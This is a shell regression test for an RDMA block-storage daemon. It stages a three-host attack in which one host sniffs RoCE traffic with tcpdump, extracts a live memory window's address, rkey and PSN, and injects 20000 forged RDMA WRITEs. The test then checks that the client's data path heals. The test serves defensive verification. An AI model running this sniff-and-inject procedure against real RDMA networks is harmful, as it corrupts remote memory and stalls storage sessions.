# SPDX-License-Identifier: MIT
# A forged RDMA WRITE into a live rdmasec-blk queue's pool (issue 38), one
# boot, three hosts. The target's own RDMA WRITEs carry the client's pool
# window in clear (RETH: address, rkey); host 3 reads one off the bridge, and
# the PSN the client's queue pair expects, and sweeps forged WRITEs into that
# window from there. rxe accepts them (valid rkey, bound QP) and moves the
# expected PSN on: the target's real packets are then acknowledged as
# duplicates and dropped, with no completion on either side. Before PATH_CHECK
# that was a black hole until the client's 30 s command timeout ended the
# session. Reads of 512 bytes keep every packet of the target's one packet
# long, so a forged WRITE never lands inside one of its messages (that fails
# the QP instead, a fault rdmasec always healed). Now, while bench --verify
# reads back a pattern on host 2:
#  - the client finds its data path silent and rebuilds it: the target audits
#    a rebuild whose reason names it, and the run ends clean (no I/O error, no
#    verify error, the session went on);
#  - no command waited 2 s or more (the run's largest completion latency);
# Rounds: up to 3 sweeps, until one lands (a run's session may end between
# the sniff and the sweep).
. "$(dirname "$0")/common.bash"

bin=$build/tools
blkd=$bin/blk/target/rdmasec-blkd
cli=$bin/blk/cli/rdmasec-blk
atk=$bin/attack/rdmasec-attack
for f in "$blkd" "$cli" "$atk"; do [ -x "$f" ] || fail "build it first (missing $f)"; done
command -v tcpdump >/dev/null || fail "tcpdump is missing"
"$bin/keygen/rdmasec-keygen" "$work/pki" >/dev/null || fail "rdmasec-keygen failed"

# Host 3: one RDMA WRITE (First or Only) of the target's into the client, its
# destination QP and RETH; the client QP's expected PSN (rdma res: all hosts
# share one kernel); then 20000 forged WRITEs into the window from that PSN.
cat >"$work/attacker.sh" <<'ATTACKER'
set -u
atk=$1 out=$2
tcpdump -i fabbr -nn -x -c 1 \
	'udp dst port 4791 and src host 10.77.0.1 and dst host 10.77.0.2 and (udp[8] == 6 or udp[8] == 10)' \
	>/tmp/w.txt 2>/tmp/tcpdump.err || { echo "sniff failed: $(tail -n 1 /tmp/tcpdump.err)"; exit 1; }
hex=$(awk '/^[[:space:]]*0x[0-9a-f]+:/ { for (i = 2; i <= NF; i++) printf "%s", $i }' /tmp/w.txt)
# IPv4 (20) + UDP (8), then BTH (12: dest QP at 5, PSN at 9), then RETH (va 8, rkey 4, length 4).
qpn=$((0x${hex:66:6})) va=0x${hex:80:16} rkey=0x${hex:96:8}
psn=$(rdma -d res show qp link rxe2/1 lqpn "$qpn" 2>/dev/null |
	awk '{ for (i = 1; i < NF; i++) if ($i == "rq-psn") print $(i + 1) }')
[ -n "$psn" ] || { echo "QP $qpn is gone"; exit 1; }
echo "attacker: qpn $qpn expects psn $psn; window va $va rkey $rkey"
"$atk" inject --op write --rkey "$rkey" --va "$va" --dst 10.77.0.2 --src 10.77.0.1 --qpn "$qpn" \
	--psn-sweep "$psn:20000" --iface fab3 --sport 4242 --data FORGED-INTO-THE-POOL --json >"$out.json" ||
	{ echo "inject failed"; exit 1; }
after=$(rdma -d res show qp link rxe2/1 lqpn "$qpn" 2>/dev/null |
	awk '{ for (i = 1; i < NF; i++) if ($i == "rq-psn") print $(i + 1) }')
echo "attacker: qpn $qpn expects psn ${after:-(gone: rebuilt or ended)} after the sweep"
ATTACKER

cat >"$work/guest.sh" <<'GUEST'
set -u
blkd=$1 cli=$2 atk=$3 work=$4
server=$(fabric ip 1) me=$(fabric ip 2)
truncate -s 64M /tmp/disk.img
fabric on 1 "$blkd" --certs "$work/pki" --listen "$server" --audit "$work/audit.jsonl" \
	--export disk=/tmp/disk.img,size=64M,bs=512 --rw '*' 2>"$work/blkd.log" &
tpid=$!
fabric wait-port 7472 30 || { tail "$work/blkd.log"; exit 1; }
blk() { local t=$1; shift
	timeout "$t" fabric on 2 "$cli" bench --server "$server" --certs "$work/pki" --export disk --source "$me" \
		--bs 512 --seed 7 --verify "$@"; }
silent() { local n; n=$(grep -c '"event":"rebuild".*data path silent' "$work/audit.jsonl" 2>/dev/null); echo "${n:-0}"; }
blk 300 --rw write --iodepth 16 --size 2M >"$work/pattern.out" 2>&1
echo "pattern=$?"
# A round is judged by the target's audit: a rebuild for a silent data path, or a run that failed
# (the black hole); a sweep that missed (the run's session ended first) and a clean run: again.
for round in 1 2 3; do
	n0=$(silent)
	blk 300 --rw randread --iodepth 2 --size 2M >"$work/run$round.out" 2>&1 &
	rpid=$!
	timeout 60 fabric on 3 bash "$work/attacker.sh" "$atk" "$work/attack$round" >"$work/attack$round.out" 2>&1
	wait $rpid
	rc=$?
	echo "run$round=$rc"
	cat "$work/attack$round.out"
	[ "$(silent)" -gt "$n0" ] || [ $rc -ne 0 ] && { echo "round=$round"; break; }
done
kill -TERM $tpid
wait $tpid
echo "blkd=$?"
GUEST

"$fabric" run --hosts 3 --timeout 900 "${build_share[@]}" -- bash "$work/guest.sh" "$blkd" "$cli" "$atk" "$work" \
	>"$work/out.txt" 2>&1 || { cat "$work/out.txt"; fail "fabric run failed"; }
cat "$work/out.txt"
expect_match "$work/out.txt" '^pattern=0$' "the pattern could not be written"
round=$(sed -n 's/^round=//p' "$work/out.txt")
[ -n "$round" ] || { tail -n 30 "$work/blkd.log"; fail "no sweep landed in 3 rounds"; }
run=$work/run$round.out
cat "$run"
grep -E '"event":"(qp_error|mac_failure|rebuild)"' "$work/audit.jsonl" | cut -c1-300
expect_match "$work/out.txt" "^run$round=0\$" "the attacked run failed"
expect_match "$run" '^  errors=0, verify_errors=0$' "the attacked run saw errors"
grep -q 'session ended' "$run" && fail "the attacked run's session ended"
expect_match "$work/audit.jsonl" '"event":"rebuild".*data path silent' "the target audited no rebuild for a silent data path"
max=$(sed -n 's/.*clat (usec): .*max=\([0-9.]*\).*/\1/p' "$run" | head -n 1)
[ -n "$max" ] || fail "no latency in the run's report"
python3 -c "import sys; sys.exit(0 if float('$max') < 2e6 else 1)" ||
	fail "a command waited $max us: the data path did not heal within 2 s"
echo "blk_pool_write: healed, the slowest command took $max us; ok"
